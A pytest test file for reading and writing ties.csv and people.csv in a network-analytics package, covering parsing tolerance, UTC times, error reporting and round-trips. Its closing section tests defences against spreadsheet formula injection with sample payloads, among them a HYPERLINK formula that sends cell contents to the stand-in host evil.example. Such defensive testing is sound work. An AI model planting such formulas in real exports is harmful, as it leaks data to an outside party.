"""Reading and writing ties.csv / people.csv: formats, tolerance, errors naming file and line."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analytics.errors import AnalyticsError, AnalyticsInputError
from analytics.model import Person, Tie
from analytics.report.io import read_people, read_ties, write_people, write_ties

KRACKHARDT = Path("/work/shared/data/krackhardt")


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_reads_minimal_ties_with_defaults(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "source,target\nU1,U2\n")
    assert read_ties(path) == [Tie("U1", "U2", "", 1.0, None, "")]


def test_reads_all_tie_columns_and_normalises_times_to_utc(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "t.csv",
        "source,target,kind,weight,occurred_at,origin\n"
        "U1,U2,helped,2.5,2024-03-01T09:30:00Z,poll:1\n"
        "U1,U3,kudos,,2024-03-01,\n"
        "U2,U3,,1,2024-03-01T11:30:00+02:00,\n"
        "U3,U1,,1,2024-03-01T09:30:00,\n",
    )
    ties = read_ties(path)
    assert ties[0] == Tie(
        "U1", "U2", "helped", 2.5, datetime(2024, 3, 1, 9, 30, tzinfo=UTC), "poll:1"
    )
    assert ties[1].occurred_at == datetime(2024, 3, 1, tzinfo=UTC)
    assert ties[1].weight == 1.0
    assert ties[2].occurred_at == datetime(2024, 3, 1, 9, 30, tzinfo=UTC)
    # A naive time is taken as UTC, so every tie compares with every other.
    assert ties[3].occurred_at == datetime(2024, 3, 1, 9, 30, tzinfo=UTC)
    assert all(
        t.occurred_at is not None and t.occurred_at.utcoffset() == timedelta(0) for t in ties
    )


def test_tolerates_bom_blank_lines_whitespace_and_header_case(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "t.csv",
        "\ufeff Source , TARGET ,Weight\r\n\r\n  U1 , U2 , 3 \r\n,,\r\n\r\nU2,U1,1\r\n",
    )
    assert [(t.source, t.target, t.weight) for t in read_ties(path)] == [
        ("U1", "U2", 3.0),
        ("U2", "U1", 1.0),
    ]


def test_self_ties_and_duplicates_are_kept_for_the_analysis_to_report(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "source,target\nU1,U1\nU1,U2\nU1,U2\n")
    assert len(read_ties(path)) == 3


def test_header_only_ties_file_is_an_empty_list(tmp_path: Path) -> None:
    assert read_ties(write(tmp_path, "t.csv", "source,target\n")) == []


@pytest.mark.parametrize(
    ("text", "line", "problem"),
    [
        ("", 1, "empty file"),
        ("\n\n  \n", 1, "empty file"),
        ("source,kind\nU1,x\n", 1, "missing required column 'target'"),
        ("from,to\nU1,U2\n", 1, "missing required column 'source'"),
        ("source,target,occurred_at\nU1,U2,2024-01-01\nU1,U3,yesterday\n", 3, "bad date"),
        ("source,target,occurred_at\nU1,U2,2024-13-01\n", 2, "bad date"),
        ("source,target,weight\nU1,U2,heavy\n", 2, "bad weight 'heavy'"),
        ("source,target,weight\nU1,U2,-2\n", 2, "bad weight"),
        ("source,target,weight\nU1,U2,nan\n", 2, "bad weight"),
        ("source,target\n\nU1,\n", 3, "missing target"),
        ("source,target\n,U2\n", 2, "missing source"),
        ("source,target\nU1,U2,U3\n", 2, "row has 3 fields"),
        ("source,target,source\nU1,U2,U3\n", 1, "duplicate column"),
    ],
)
def test_bad_ties_files_name_file_line_and_problem(
    tmp_path: Path, text: str, line: int, problem: str
) -> None:
    path = write(tmp_path, "ties.csv", text)
    with pytest.raises(AnalyticsInputError) as caught:
        read_ties(path)
    error = caught.value
    assert isinstance(error, AnalyticsError)
    assert (error.path, error.line) == (str(path), line)
    assert problem in error.problem
    assert str(error).startswith(f"{path}:{line}: ")


def test_missing_file_and_non_utf8_are_input_errors(tmp_path: Path) -> None:
    with pytest.raises(AnalyticsInputError, match="file not found"):
        read_ties(tmp_path / "nope.csv")
    path = write(tmp_path, "t.csv", "source,target\nU1,Zoë\n", encoding="latin-1")
    with pytest.raises(AnalyticsInputError, match="not UTF-8") as caught:
        read_ties(path)
    assert caught.value.line == 2


def test_reads_people_with_known_and_extra_columns(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "p.csv",
        "id,name,team,manager,title,location,champion,joined_at,Level\n"
        "U1,Ada Lovelace,Eng,U9,Engineer,London,yes,2023-01-05,3\n"
        "U2,Bob,Ops,,,,0,,\n"
        "U3,,,,,,,,\n",
    )
    people = read_people(path)
    assert people[0] == Person(
        "U1",
        "Ada Lovelace",
        "Eng",
        "U9",
        "Engineer",
        "London",
        True,
        "2023-01-05",
        attrs={"Level": "3"},
    )
    assert people[1].champion is False and people[1].attrs == {"Level": ""}
    assert people[2].champion is False


@pytest.mark.parametrize("flag", ["true", "TRUE", "yes", "Y", "1"])
def test_champion_flag_truthy_spellings(tmp_path: Path, flag: str) -> None:
    path = write(tmp_path, "p.csv", f"id,champion\nU1,{flag}\n")
    assert read_people(path)[0].champion is True


@pytest.mark.parametrize(
    ("text", "line", "problem"),
    [
        ("", 1, "empty file"),
        ("name,team\nAda,Eng\n", 1, "missing required column 'id'"),
        ("id,name\nU1,Ada\n,Bob\n", 3, "missing id"),
        ("id,name\nU1,Ada\n\nU1,Bob\n", 4, "duplicate person id 'U1' (first seen on line 2)"),
        ("id,champion\nU1,maybe\n", 2, "bad champion value 'maybe'"),
        ("id,joined_at\nU1,last year\n", 2, "bad date in joined_at"),
    ],
)
def test_bad_people_files_name_file_line_and_problem(
    tmp_path: Path, text: str, line: int, problem: str
) -> None:
    path = write(tmp_path, "people.csv", text)
    with pytest.raises(AnalyticsInputError) as caught:
        read_people(path)
    assert caught.value.line == line
    assert problem in caught.value.problem
    assert str(caught.value).startswith(f"{path}:{line}: ")


def test_reads_krackhardt() -> None:
    people = read_people(KRACKHARDT / "people.csv")
    ties = read_ties(KRACKHARDT / "ties-advice.csv")
    assert len(people) == 21
    assert {p.id for p in people} == {str(i) for i in range(1, 22)}
    assert people[0].team == "dept-4" and people[0].manager == "2"
    assert set(people[0].attrs) == {"level", "age", "tenure"}
    assert len(ties) == 190
    assert all(t.kind == "advice" for t in ties)


def test_write_then_read_people_round_trips(tmp_path: Path) -> None:
    people = [
        Person(
            "U1",
            'Ada, "the" first',
            "Eng",
            "U9",
            "Dev",
            "Paris",
            True,
            "2023-01-05",
            attrs={"x": "1"},
        ),
        Person("U2", "Bob", attrs={"y": "é"}),
    ]
    path = tmp_path / "people.csv"
    assert write_people(path, people) == 2
    back = read_people(path)
    assert back[0] == Person(
        "U1",
        'Ada, "the" first',
        "Eng",
        "U9",
        "Dev",
        "Paris",
        True,
        "2023-01-05",
        attrs={"x": "1", "y": ""},
    )
    assert back[1].attrs == {"x": "", "y": "é"}


ids = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")),
    min_size=1,
    max_size=8,
)
times = st.one_of(
    st.none(),
    st.datetimes(
        min_value=datetime(1990, 1, 1), max_value=datetime(2100, 1, 1), timezones=st.just(UTC)
    ),
)
ties_strategy = st.lists(
    st.builds(
        Tie,
        source=ids,
        target=ids,
        kind=st.sampled_from(["", "helped", "kudos", "advice"]),
        weight=st.one_of(
            st.integers(0, 1000).map(float),
            st.floats(0, 1e6, allow_nan=False, allow_infinity=False),
        ),
        occurred_at=times,
        origin=st.sampled_from(["", "poll:1", "kudos:abc"]),
    ),
    max_size=20,
)


@settings(max_examples=60, deadline=None)
@given(ties=ties_strategy)
def test_write_then_read_ties_round_trips(
    tmp_path_factory: pytest.TempPathFactory, ties: list[Tie]
) -> None:
    path = tmp_path_factory.mktemp("rt") / "ties.csv"
    assert write_ties(path, ties) == len(ties)
    assert read_ties(path) == ties


def test_write_ties_converts_offsets_to_utc(tmp_path: Path) -> None:
    when = datetime(2024, 3, 1, 11, 30, tzinfo=timezone(timedelta(hours=2)))
    path = tmp_path / "t.csv"
    write_ties(path, [Tie("a", "b", occurred_at=when)])
    assert "2024-03-01T09:30:00Z" in path.read_text()
    assert read_ties(path)[0].occurred_at == when


# Spreadsheet formula injection (issue 10, item 4) ----------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd", "'=already quoted"]


def test_written_ties_and_people_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
    people = [Person(f"U{i}", name=text, team=text, title=text, attrs={"note": text})
              for i, text in enumerate(FORMULAS)]
    ties = [Tie("U0", "U1", kind=text, origin=text) for text in FORMULAS]
    write_people(tmp_path / "people.csv", people)
    write_ties(tmp_path / "ties.csv", ties)
    for name in ("people.csv", "ties.csv"):
        with (tmp_path / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        for text in FORMULAS:
            assert text not in cells
        risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
        assert risky == [], risky
        assert "'" + FORMULAS[0] in cells


def test_neutralised_cells_read_back_exactly(tmp_path: Path) -> None:
    people = [Person(f"U{i}", name=text, attrs={"note": text}) for i, text in enumerate(FORMULAS)]
    ties = [Tie("=U0", "U1", kind=text, weight=2.0) for text in FORMULAS]
    write_people(tmp_path / "people.csv", people)
    write_ties(tmp_path / "ties.csv", ties)
    back = read_people(tmp_path / "people.csv")
    assert [p.name for p in back] == FORMULAS
    assert [p.attrs["note"] for p in back] == FORMULAS
    assert {t.source for t in read_ties(tmp_path / "ties.csv")} == {"=U0"}


def test_plain_numbers_are_not_quoted(tmp_path: Path) -> None:
    write_people(tmp_path / "people.csv", [Person("-1", name="+44 20 7946 0000", title="-2.5")])
    text = (tmp_path / "people.csv").read_text(encoding="utf-8")
    assert "\n-1,'+44 20 7946 0000,,,-2.5," in text  # a phone number with spaces is quoted
